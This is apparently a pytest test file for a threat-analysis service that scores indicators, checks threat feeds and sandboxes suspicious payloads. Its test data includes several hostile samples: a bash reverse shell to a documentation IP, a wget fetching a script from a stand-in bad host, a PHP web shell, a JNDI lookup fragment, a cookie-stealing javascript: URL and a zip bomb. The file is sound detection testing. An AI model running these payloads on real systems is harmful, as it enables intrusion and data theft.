"""The analysis use cases on fakes: storage per organisation, paging, feeds, modes, hostile inputs."""

from __future__ import annotations

import base64
import gzip
import random
import zlib
from datetime import UTC, datetime

import pytest

from rampart.lib.errors import InvalidArgument
from rampart_threat.analysis.domain import (
    AnalysisBudgetExceeded,
    AnalysisNotFound,
    FeedHit,
    InvalidIndicator,
    Kind,
    Mode,
    Verdict,
)
from rampart_threat.analysis.feeds import InMemoryIndicatorLookup
from rampart_threat.analysis.repository import InMemoryAnalysisRepository
from rampart_threat.analysis.sandbox import SandboxLimits
from rampart_threat.analysis.service import AnalysisService, AnalyzeRequest

pytestmark = pytest.mark.timeout(120)


def service(feeds: InMemoryIndicatorLookup | None = None, **limits: float) -> AnalysisService:
    return AnalysisService(
        InMemoryAnalysisRepository(), feeds or InMemoryIndicatorLookup(), None, SandboxLimits(**limits)
    )  # type: ignore[arg-type]


def ask(target: str, mode: Mode = Mode.QUICK, kind: Kind | None = None, org: str = "org_a") -> AnalyzeRequest:
    return AnalyzeRequest(org, "usr", target, kind, mode)


async def test_every_point_of_the_score_has_a_reason() -> None:
    analysis = await service().analyze(ask("http://paypa1-secure-login.xyz/webscr/verify.php"))
    assert analysis.verdict is Verdict.MALICIOUS
    assert analysis.risk_score == min(100, sum(r.weight for r in analysis.reasons))
    assert all(r.evidence for r in analysis.reasons)
    assert "T1583.001" in analysis.attack()
    assert analysis.recommended_actions


async def test_a_hash_without_feed_entry_is_unknown_and_with_one_is_malicious() -> None:
    digest = "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"
    assert (await service().analyze(ask(digest))).verdict is Verdict.UNKNOWN
    seen = datetime(2024, 5, 1, tzinfo=UTC)
    feeds = InMemoryIndicatorLookup([("", FeedHit("bazaar", "sha256", digest, "AgentTesla", seen))])
    analysis = await service(feeds).analyze(ask(digest.upper()))
    assert analysis.verdict is Verdict.MALICIOUS
    assert analysis.feed_hits[0].first_seen == seen
    assert "bazaar" in analysis.reasons[0].evidence


async def test_an_organisations_own_feed_entry_is_invisible_to_another() -> None:
    feeds = InMemoryIndicatorLookup([("org_b", FeedHit("deny-list", "ipv4", "198.51.100.7"))])
    assert (await service(feeds).analyze(ask("198.51.100.7", org="org_a"))).feed_hits == ()
    assert (await service(feeds).analyze(ask("198.51.100.7", org="org_b"))).verdict is Verdict.MALICIOUS


async def test_indicators_inside_a_payload_are_looked_up() -> None:
    feeds = InMemoryIndicatorLookup([("", FeedHit("urlhaus", "domain", "bad.example", "malware_download"))])
    analysis = await service(feeds).analyze(ask("wget http://bad.example/x.sh", kind=Kind.PAYLOAD))
    assert "feed_hit:domain" in {r.signal for r in analysis.reasons}


async def test_analyses_are_stored_listed_newest_first_and_paged_per_organisation() -> None:
    svc = service()
    made = [await svc.analyze(ask(f"site{i}.example")) for i in range(5)]
    await svc.analyze(ask("other.example", org="org_b"))
    first = await svc.list("org_a", 2, "")
    second = await svc.list("org_a", 2, first.next_page_token)
    third = await svc.list("org_a", 2, second.next_page_token)
    ids = [a.analysis_id for page in (first, second, third) for a in page.analyses]
    assert ids == [a.analysis_id for a in reversed(made)]
    assert third.next_page_token == ""
    assert (await svc.get("org_a", made[0].analysis_id)).target.normalized == "site0.example"
    with pytest.raises(AnalysisNotFound):
        await svc.get("org_b", made[0].analysis_id)


async def test_the_list_filters_by_verdict() -> None:
    svc = service()
    await svc.analyze(ask("wikipedia.org"))
    bad = await svc.analyze(ask("javascript:alert(document.cookie)"))
    page = await svc.list("org_a", 10, "", Verdict.SUSPICIOUS)
    assert [a.analysis_id for a in page.analyses] == [bad.analysis_id]


async def test_a_zip_bomb_is_stopped_at_the_bound_and_reported() -> None:
    bomb = base64.b64encode(gzip.compress(b"\0" * (64 * 1024 * 1024))).decode()
    analysis = await service().analyze(ask(bomb, Mode.DEEP, Kind.PAYLOAD))
    assert "decompression_bomb" in {r.signal for r in analysis.reasons}
    assert any("decompression stopped" in limit for limit in analysis.limits)


async def test_a_deeply_nested_encoding_stops_at_the_mode_depth() -> None:
    data = b"bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"
    for _ in range(30):
        data = base64.b64encode(zlib.compress(data))
    analysis = await service().analyze(ask(data.decode(), Mode.QUICK, Kind.PAYLOAD))
    assert any("decoding stopped at depth 2" in limit for limit in analysis.limits)


@pytest.mark.parametrize(
    "payload",
    [
        "A" * (1024 * 1024 - 16),  # 1 MB single line, all base64 alphabet
        "%41" * 340_000,  # 1 MB of URL-encoding
        "${" * 200_000 + "jndi",  # nested lookup starts
        "<script " * 120_000,  # tag starts without end
        "0" * 1_000_000,  # one hex run
    ],
    ids=["base64-line", "percent", "lookups", "tags", "hex"],
)
async def test_hostile_one_megabyte_payloads_finish_with_a_result(payload: str) -> None:
    analysis = await service().analyze(ask(payload, Mode.DEEP, Kind.PAYLOAD))
    assert analysis.verdict in set(Verdict)


async def test_sandbox_mode_runs_in_a_separate_limited_process() -> None:
    analysis = await service().analyze(ask("<?php system($_GET['cmd']); ?>", Mode.SANDBOX, Kind.PAYLOAD))
    assert "yara:web_shell" in {r.signal for r in analysis.reasons}
    note = next(limit for limit in analysis.limits if limit.startswith("sandbox:"))
    assert "namespace" in note or "resource limits only" in note


async def test_sandbox_mode_past_its_wall_budget_is_a_budget_error() -> None:
    with pytest.raises(AnalysisBudgetExceeded):
        await service(wall_seconds=0.01).analyze(ask("x" * 1000, Mode.SANDBOX, Kind.PAYLOAD))


async def test_sandbox_mode_without_enough_memory_is_a_budget_error() -> None:
    with pytest.raises(AnalysisBudgetExceeded):
        await service(memory_bytes=32 * 1024 * 1024).analyze(ask("x" * 1000, Mode.SANDBOX, Kind.PAYLOAD))


async def test_odd_inputs_of_every_type_give_a_verdict_or_a_clear_refusal() -> None:
    """Seeded random strings from a hostile alphabet: no crash, only InvalidIndicator when refused."""
    rng = random.Random(5)
    alphabet = "hxp:/[].@%$-_{}()<>'\"\\ \t\nxn--\u0430\u043e\u00e90123456789abcdefABCDEF=+?#&;|`~!*"
    svc = service()
    fixed = [
        "hxxp://paypa1-login[.]example/verify",
        "http://[::1",
        "see http://a[b.com/x",
        "https://[zz]/",
        "a@b@c",
    ]
    for i in range(400):
        text = (
            fixed[i] if i < len(fixed) else "".join(rng.choice(alphabet) for _ in range(rng.randrange(1, 60)))
        )
        for kind in (None, Kind.PAYLOAD, Kind.URL, Kind.DOMAIN):
            try:
                analysis = await svc.analyze(ask(text, Mode.DEEP, kind))
            except InvalidIndicator:
                continue
            assert 0 <= analysis.risk_score <= 100


@pytest.mark.parametrize("token", ["92555591586689905339", "12a", "-1", "\u0661\u0662"])
async def test_a_page_token_the_service_did_not_issue_is_invalid(token: str) -> None:
    with pytest.raises(InvalidArgument):
        await service().list("org_a", 10, token)
